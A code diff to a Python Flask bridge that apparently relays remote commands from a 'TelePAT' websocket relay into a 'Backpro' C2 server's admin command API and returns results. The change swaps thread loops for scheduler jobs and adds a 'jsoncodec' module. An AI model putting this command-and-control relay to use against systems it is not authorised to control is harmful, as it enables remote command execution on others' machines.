@@ -7,6 +7,7 @@ import socket
 import platform
 import os
 from flask import Flask, request, jsonify
+import jsoncodec
 
 RELAY_URL = "ws://192.168.230.133:8081/ws"
 SLOT_ID = "backpro-c2-agent"
@@ -15,6 +16,7 @@ HTTP_PORT = 5001
 AGENT_ID_FILE = "agent_id.txt"
 
 app = Flask(__name__)
+jsoncodec.init_app(app)
 
 class BridgeState:
     sdk = None
@@ -107,52 +109,46 @@ def send_results_to_telepat():
     except Exception as e:
         log(f"Error sending results: {e}")
 
-def background_loop():
-    while True:
-        send_results_to_telepat()
-        time.sleep(8)
+def poll_commands():
+    if not (BridgeState.sdk.registered and BridgeState.sdk.connected and GLOBAL_AGENT_ID):
+        return
 
-def command_polling_loop():
-    global GLOBAL_AGENT_ID
-    while True:
-        if BridgeState.sdk.registered and BridgeState.sdk.connected and GLOBAL_AGENT_ID:
-            cmd = BridgeState.sdk.request_commands(
-                agent_id=GLOBAL_AGENT_ID,
-                count=1,
-                timeout=10
-            )
-            if cmd:
-                telepat_cmd_id = cmd.get("command_id")
-                command_text = cmd.get("input_data", {}).get("command", "").strip()
-                arguments = cmd.get("input_data", {}).get("arguments", "")
-
-                if not command_text:
-                    log("Warning: Received empty command — skipping")
-                    continue
-
-                log(f"New command received from TelePAT! ID: {telepat_cmd_id}")
-                log(f"Command: {command_text} {arguments}")
-
-                try:
-                    payload = {
-                        "command_text": command_text,
-                        "arguments": arguments,
-                        "agent_id": 1
-                    }
-                    r = requests.post(f"{BACKPRO_URL}/api/admin/commands", json=payload, timeout=20)
-                    if r.status_code in (200, 201):
-                        backpro_resp = r.json()
-                        backpro_cmd_id = backpro_resp.get("id") or backpro_resp.get("command_id")
-                        if backpro_cmd_id:
-                            command_mapping[backpro_cmd_id] = telepat_cmd_id
-                            log(f"Mapped TelePAT ID {telepat_cmd_id} → Backpro ID {backpro_cmd_id}")
-                        log(f"Command successfully forwarded: '{command_text}'")
-                    else:
-                        log(f"Forward failed: {r.status_code} {r.text}")
-                except Exception as e:
-                    log(f"Error forwarding command: {e}")
-
-        time.sleep(5)
+    cmd = BridgeState.sdk.request_commands(
+        agent_id=GLOBAL_AGENT_ID,
+        count=1
+    )
+    if not cmd:
+        return
+
+    telepat_cmd_id = cmd.get("command_id")
+    command_text = cmd.get("input_data", {}).get("command", "").strip()
+    arguments = cmd.get("input_data", {}).get("arguments", "")
+
+    if not command_text:
+        log("Warning: Received empty command — skipping")
+        return
+
+    log(f"New command received from TelePAT! ID: {telepat_cmd_id}")
+    log(f"Command: {command_text} {arguments}")
+
+    try:
+        payload = {
+            "command_text": command_text,
+            "arguments": arguments,
+            "agent_id": 1
+        }
+        r = requests.post(f"{BACKPRO_URL}/api/admin/commands", json=payload, timeout=20)
+        if r.status_code in (200, 201):
+            backpro_resp = jsoncodec.loads(r.content)
+            backpro_cmd_id = backpro_resp.get("id") or backpro_resp.get("command_id")
+            if backpro_cmd_id:
+                command_mapping[backpro_cmd_id] = telepat_cmd_id
+                log(f"Mapped TelePAT ID {telepat_cmd_id} → Backpro ID {backpro_cmd_id}")
+            log(f"Command successfully forwarded: '{command_text}'")
+        else:
+            log(f"Forward failed: {r.status_code} {r.text}")
+    except Exception as e:
+        log(f"Error forwarding command: {e}")
 
 if __name__ == "__main__":
     log("Starting TelePAT → Backpro Bridge")
@@ -200,10 +196,11 @@ if __name__ == "__main__":
     else:
         log(f"Using existing agent_id: {GLOBAL_AGENT_ID}")
 
-    threading.Thread(target=command_polling_loop, daemon=True).start()
+    # Both jobs block on HTTP/relay round trips, so they run on the scheduler's worker pool
+    BridgeState.sdk.scheduler.every(5, poll_commands, blocking=True, first_delay=0)
     log("Command polling started")
 
-    threading.Thread(target=background_loop, daemon=True).start()
+    BridgeState.sdk.scheduler.every(8, send_results_to_telepat, blocking=True, first_delay=0)
 
     log("Bridge fully active")
     while True: